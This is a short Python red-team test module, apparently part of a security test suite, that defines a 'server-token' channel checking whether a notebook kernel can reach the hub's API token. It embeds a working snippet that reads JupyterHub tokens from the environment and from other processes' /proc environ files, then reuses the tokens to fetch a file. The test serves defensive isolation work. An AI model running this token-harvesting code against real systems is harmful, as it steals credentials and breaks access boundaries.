from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

LOOK = """
import glob, os
found = [os.environ.get("JUPYTERHUB_API_TOKEN", "")]
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    try:
        held = open(path).read().split("\\0")
    except OSError:
        continue
    found += [line.split("=")[1] for line in held if line.startswith(("JUPYTERHUB_API_TOKEN=", "JPY_API_TOKEN="))]
print(*set(found) - {""})
"""


@channel(
    "server-token",
    "The server's own token for the hub, read by a kernel and used from elsewhere",
    direction="reach",
    closed_by="engine and desk are two containers",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.keep("reached.bin")
    return b"\n".join(
        site.fetch_with(token, "files/reached.bin") or b"" for token in site.said(LOOK).split()[:3]
    )
